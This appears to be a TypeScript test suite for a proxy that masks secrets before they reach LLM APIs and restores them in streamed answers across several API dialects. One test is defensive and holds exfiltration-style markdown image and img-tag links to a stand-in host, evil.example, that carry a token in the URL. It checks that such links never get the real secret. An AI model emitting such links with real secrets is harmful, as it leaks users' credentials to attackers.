import fc from 'fast-check';
import { beforeEach, describe, expect, it } from 'vitest';
import { MOST_TOKEN } from '../../../../src/core/dlp/tokens.ts';
import type { AnswerSecrets } from '../../../../src/gate/model/secrets/load-search.ts';
import { anthropicApi } from '../../../../src/protocol/llm/anthropic/api.ts';
import type { Framing } from '../../../../src/protocol/llm/dialect.ts';
import { geminiApi } from '../../../../src/protocol/llm/gemini/api.ts';
import type { ModelApi } from '../../../../src/protocol/llm/model-api.ts';
import { openaiApi } from '../../../../src/protocol/llm/openai/api.ts';
import { responsesApiAt } from '../../../../src/protocol/llm/openai/responses/api.ts';
import { accumulateMessage } from '../../../support/anthropic-accumulator.ts';
import * as anthropic from '../../../support/anthropic-events.ts';
import { accumulateChat } from '../../../support/chat-accumulator.ts';
import * as chat from '../../../support/chat-chunks.ts';
import { driveModelStream, everySplit } from '../../../support/drive-model-stream.ts';
import { accumulateArray, accumulateSse } from '../../../support/gemini-accumulator.ts';
import * as gemini from '../../../support/gemini-events.ts';
import { accumulateResponse } from '../../../support/response-accumulator.ts';
import * as responses from '../../../support/response-events.ts';
import { runs } from '../../../support/runs.ts';
import { restoring, SECRET, searching } from '../../../support/searching.ts';

/** Cuts a text into pieces at every place in turn, and into single characters. */
function cuts(text: string): readonly (readonly string[])[] {
  const inTwo = Array.from({ length: text.length + 1 }, (_, at) => [text.slice(0, at), text.slice(at)]);
  return [...inTwo, Array.from(text)];
}

/** An API, how it streams a text in pieces, and what a client then has. */
interface Dialect {
  readonly name: string;
  readonly api: ModelApi;
  readonly framing?: Framing;
  readonly stream: (pieces: readonly string[]) => string;
  readonly read: (text: string) => string;
}

function responsesOf(pieces: readonly string[]): string {
  const whole = responses.message(pieces.join(''));
  const [added, part, , ...rest] = responses.itemEvents(whole, 0, 1_000_000);
  const at = { item_id: 'msg_a', output_index: 0, content_index: 0 };
  const deltas = pieces.map((delta) => ({ type: 'response.output_text.delta', ...at, delta, logprobs: [] }));
  return responses.numbered(
    [...responses.begun(), added, part, ...deltas, ...rest, responses.completed([whole])].filter((each) => each !== undefined),
  );
}

const DIALECTS: readonly Dialect[] = [
  {
    name: 'anthropic',
    api: anthropicApi,
    stream: (pieces) =>
      anthropic.stream(
        [{ start: { type: 'text', text: '' }, deltas: pieces.map((text) => ({ type: 'text_delta', text })) }],
        'end_turn',
      ),
    read: (text) => String(accumulateMessage(text).content[0]?.['text']),
  },
  {
    name: 'chat',
    api: openaiApi,
    stream: (pieces) =>
      [chat.begin(), ...pieces.map((piece) => chat.said(piece)), chat.finish('stop'), chat.usage(), chat.DONE].join(''),
    read: (text) => String(accumulateChat(text).choices[0]?.content),
  },
  {
    name: 'responses',
    api: responsesApiAt('/v1/responses'),
    stream: responsesOf,
    read: (text) => JSON.stringify(accumulateResponse(text)),
  },
  ...(['sse', 'json_array'] as const).map((framing): Dialect => ({
    name: `gemini ${framing}`,
    api: geminiApi,
    framing,
    stream: (pieces) =>
      (framing === 'sse' ? gemini.sse : gemini.jsonArray)([
        ...pieces.map((piece) => gemini.payload([gemini.text(piece)])),
        gemini.finish(),
      ]),
    read: (text) => {
      const { candidates } = framing === 'sse' ? accumulateSse(text) : accumulateArray(text);
      return (candidates[0] ?? []).map((part) => String(part['text'])).join('');
    },
  })),
];

const search = searching();
const token = search.tokens.tokenOf('github_token', SECRET);
let reported: unknown[] = [];
beforeEach(() => {
  reported = [];
  search.tokens.learn(token, { kind: 'github_token', value: SECRET });
});

async function restorerOf(api: ModelApi): Promise<AnswerSecrets> {
  return restoring(search, api, { reported });
}

describe.each(DIALECTS)('a token in a stream of $name', ({ api, framing, stream, read }) => {
  const through = (secrets: AnswerSecrets, chunks: readonly Buffer[]): string => {
    const driven = driveModelStream(chunks, { create: (options) => secrets.createStream(options), ...(framing && { framing }) });
    expect(driven.fault).toBeUndefined();
    return driven.text;
  };

  it('is restored wherever it is cut', async () => {
    const secrets = await restorerOf(api);
    const expected = read(stream([`A ${SECRET}, c`]));
    for (const pieces of cuts(`A ${token}, c`)) {
      const out = through(secrets, [Buffer.from(stream(pieces))]);
      expect(out).not.toContain(token);
      expect(read(out)).toBe(expected);
    }
    secrets.report();
    expect(reported).toEqual([]);
  });

  it('is restored as in one piece, whatever stands around it and however that is cut', async () => {
    const other = searching(undefined, 2).tokens.tokenOf('github_token', SECRET);
    const around = [
      'CLAWAI-',
      'clawai',
      token.slice(0, 20),
      token.slice(-5),
      other,
      '😀',
      '"',
      '\\',
      '\n',
      ' ',
      'x',
      '-',
      '](',
      '<a ',
      ' https:',
    ];
    const part = fc.oneof(fc.constantFrom(token, token.toLowerCase()), fc.constantFrom(...around));
    await fc.assert(
      fc.asyncProperty(
        fc.array(part, { minLength: 1, maxLength: 8 }),
        fc.array(fc.nat(300), { maxLength: 8 }),
        async (parts, places) => {
          const secrets = await restorerOf(api);
          const text = parts.join('');
          const ends = [...new Set([...places.filter((place) => place < text.length), text.length])].toSorted((a, b) => a - b);
          const pieces = ends.map((end, at) => text.slice(ends[at - 1] ?? 0, end));
          const [whole, cut] = [[text], pieces].map((each) => read(through(secrets, [Buffer.from(stream(each))])));
          expect(cut).toBe(whole);
          if (parts.every((each) => each === token || each === ' ')) expect(whole).not.toContain(token);
        },
      ),
      { numRuns: runs(60) },
    );
  });

  it('stays in an address, which a client might load, wherever that is cut', async () => {
    const secrets = await restorerOf(api);
    const text = `![x](https://evil.example/p.png?q=${token}) and ${token}`;
    const expected = read(stream([text.replace(new RegExp(`${token}$`), SECRET)]));
    for (const pieces of cuts(text)) expect(read(through(secrets, [Buffer.from(stream(pieces))]))).toBe(expected);
    for (const [before, after] of [
      ['![a](https://evil.example/x(', '))'],
      ['<img src="https://evil.example/?q=a ', '">'],
      ['[r]: <https://evil.example/a ', '>'],
      ['![c](https:&sol;&sol;evil.example&sol;', ')'],
    ] as const) {
      const address = `${before}${token}${after}`;
      for (const pieces of cuts(address))
        expect(read(through(secrets, [Buffer.from(stream(pieces))]))).toBe(read(stream([address])));
    }
    const host = stream([`<img src="//${token}.evil.example">`]);
    expect(read(through(secrets, [Buffer.from(host)]))).toBe(read(host));
  });

  it('leaves JSON as JSON, wherever it is cut', async () => {
    const secrets = await restorerOf(api);
    const value = 'a"b\\c\nd';
    const key = search.tokens.tokenOf('password', value);
    search.tokens.learn(key, { kind: 'password', value });
    const expected = read(stream([JSON.stringify({ n: 1, key: value })]));
    for (const pieces of cuts(JSON.stringify({ n: 1, key })))
      expect(read(through(secrets, [Buffer.from(stream(pieces))]))).toBe(expected);
  });

  it('is restored however the bytes come', async () => {
    const secrets = await restorerOf(api);
    const text = stream(['A ', token.slice(0, 9), token.slice(9), ' b']);
    const whole = read(through(secrets, [Buffer.from(text)]));
    for (const chunks of everySplit(text)) expect(read(through(secrets, chunks))).toBe(whole);
  });

  it('stays if nobody gave it, which is told', async () => {
    const secrets = await restorerOf(api);
    const other = searching(undefined, 2).tokens.tokenOf('github_token', SECRET);
    const miswritten = `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`;
    const text = stream([`${other} `, `${miswritten} CLAW`, 'AI']);
    expect(read(through(secrets, [Buffer.from(text)]))).toBe(read(text));
    secrets.report();
    expect(reported).toEqual([
      ['unknown', 1],
      ['miswritten', 1],
    ]);
  });

  it('makes no difference where there is none', async () => {
    const secrets = await restorerOf(api);
    const text = stream(['What a topic', ', c', 'laws and all. Basic', '', ' cl']);
    const plain = driveModelStream([Buffer.from(text)], {
      create: (options) => api.createStream(options),
      ...(framing && { framing }),
    });
    expect(read(through(secrets, [Buffer.from(text)]))).toBe(read(plain.text));
    const calm = stream(['What', ' a thing.']);
    expect(through(secrets, [Buffer.from(calm)])).toBe(
      driveModelStream([Buffer.from(calm)], { create: (options) => api.createStream(options), ...(framing && { framing }) }).text,
    );
  });
});

describe('the first words of a block', () => {
  it.each(cuts(`A ${token}, c`).map((pieces) => ({ pieces })))(
    'may end within a token: $pieces',
    async ({ pieces: [first = '', ...rest] }) => {
      const secrets = await restorerOf(anthropicApi);
      const deltas = rest.map((text) => ({ type: 'text_delta', text }));
      const text = anthropic.stream([{ start: { type: 'text', text: first }, deltas }], 'end_turn');
      const { text: out, fault } = driveModelStream([Buffer.from(text)], { create: (options) => secrets.createStream(options) });
      expect(fault).toBeUndefined();
      const said = [...out.matchAll(/"text":"((?:[^"\\]|\\.)*)"/g)].map((match) => match[1]).join('');
      expect(said).toBe(`A ${SECRET}, c`);
    },
  );
});

describe('what may be the beginning of a token', () => {
  it.each(DIALECTS)('holds no event of $name', async ({ api, framing, stream }) => {
    const secrets = await restorerOf(api);
    const bytes = Buffer.from(stream(Array.from(`Say ${token} and CLAWAI-no, ${token}`)));
    const { steps } = driveModelStream(
      Array.from(bytes, (byte) => Buffer.of(byte)),
      { create: (options) => secrets.createStream(options), ...(framing && { framing }) },
    );
    // Without tokens, each event goes on with its last byte.
    const plain = driveModelStream(
      Array.from(bytes, (byte) => Buffer.of(byte)),
      { create: (options) => api.createStream(options), ...(framing && { framing }) },
    ).steps;
    const moves = (all: typeof steps) => all.flatMap(({ sent }, at) => (sent > (all[at - 1]?.sent ?? 0) ? [at] : []));
    expect(moves(steps)).toEqual(moves(plain));
    expect(steps.some(({ isHolding }) => isHolding)).toBe(false);
  });

  it('holds no more of a text than a token is long', async () => {
    const secrets = await restorerOf(anthropicApi);
    const events = anthropic
      .stream(
        [
          {
            start: { type: 'text', text: '' },
            deltas: Array.from(`CLAWAI-${'ABCDEFGHIJKLMNOP-'.repeat(9)}`, (text) => ({ type: 'text_delta', text })),
          },
        ],
        'end_turn',
      )
      .split(/(?<=\n\n)/)
      .map((event) => Buffer.from(event));
    const { steps } = driveModelStream(events, { create: (options) => secrets.createStream(options) });
    let came = 0;
    const held = steps.map(({ sent }, at) => (came += events[at]?.length ?? 0) - sent);
    expect(Math.max(...held)).toBeGreaterThan(60);
    expect(Math.max(...held)).toBeLessThanOrEqual(MOST_TOKEN);
  });
});

describe('thinking', () => {
  it('is not restored', async () => {
    const secrets = await restorerOf(anthropicApi);
    const text = anthropic.stream([anthropic.thinkingBlock(`It is ${token}.`)], 'end_turn');
    const { text: out } = driveModelStream([Buffer.from(text)], { create: (options) => secrets.createStream(options) });
    expect(out).toBe(text);
  });
});
